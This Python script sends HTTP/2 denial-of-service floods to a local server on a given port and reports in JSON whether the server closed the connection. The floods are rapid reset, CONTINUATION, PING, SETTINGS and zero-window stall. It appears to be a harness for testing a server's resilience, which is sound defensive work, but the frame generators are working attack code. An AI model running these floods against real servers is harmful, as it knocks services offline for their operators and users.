"""Floods a server with HTTP/2: arguments are its PORT, the FLOOD, and over how many CONNECTIONS, one after the other.

Frames go out until the server closes, until MOST are out, or until PATIENCE is over. Prints what came of it, as JSON.
"""

import json
import select
import socket
import sys
import time

import h2
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

MOST, BATCH, PATIENCE = 20_000, 50, 10
CANCEL, INITIAL_WINDOW_SIZE = 8, 4
HEAD = Encoder().encode([(":method", "POST"), (":path", "/email"), (":scheme", "http"), (":authority", "smsp")])


def rapid_reset(number):
    stream = 2 * number + 1
    return [HeadersFrame(stream, HEAD, flags=["END_HEADERS"]), RstStreamFrame(stream, CANCEL)]


def continuation(number):
    return [ContinuationFrame(1, b"\x00\x01x\x01x" * 50) if number else HeadersFrame(1, HEAD)]


def ping(number):
    return [PingFrame(0, number.to_bytes(8, "big"))]


def settings(number):
    return [SettingsFrame(0, {INITIAL_WINDOW_SIZE: number})]


def zero_window(number):
    if number == 0:
        return [SettingsFrame(0, {INITIAL_WINDOW_SIZE: 0})]
    # From here on it only waits.
    return [HeadersFrame(2 * number - 1, HEAD, flags=["END_HEADERS", "END_STREAM"])] if number < 100 else []


def attempt(port, flood):
    server = socket.create_connection(("127.0.0.1", port))
    server.setblocking(False)
    server.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize())
    frames, answer, end = 0, b"", time.monotonic() + PATIENCE
    try:
        while frames < MOST and time.monotonic() < end:
            out = b"".join(frame.serialize() for number in range(frames, frames + BATCH) for frame in flood(number))
            while out and select.select([], [server], [], 1)[1]:
                out = out[server.send(out) :]
            frames += BATCH
            while select.select([server], [], [], 0 if out else 0.01)[0]:
                some = server.recv(65536)
                if not some:
                    return True, frames, answer
                answer += some[: 64 - len(answer)]
    except (ConnectionResetError, BrokenPipeError):
        return True, frames, answer
    return False, frames, answer


ends = [attempt(int(sys.argv[1]), globals()[sys.argv[2]]) for _ in range(int(sys.argv[3]))]
closed, frames, answers = zip(*ends)
shown = sorted({answer.decode("latin-1") for answer in answers})
print(json.dumps({"h2": h2.__version__, "closed": all(closed), "frames": max(frames), "answers": shown}))
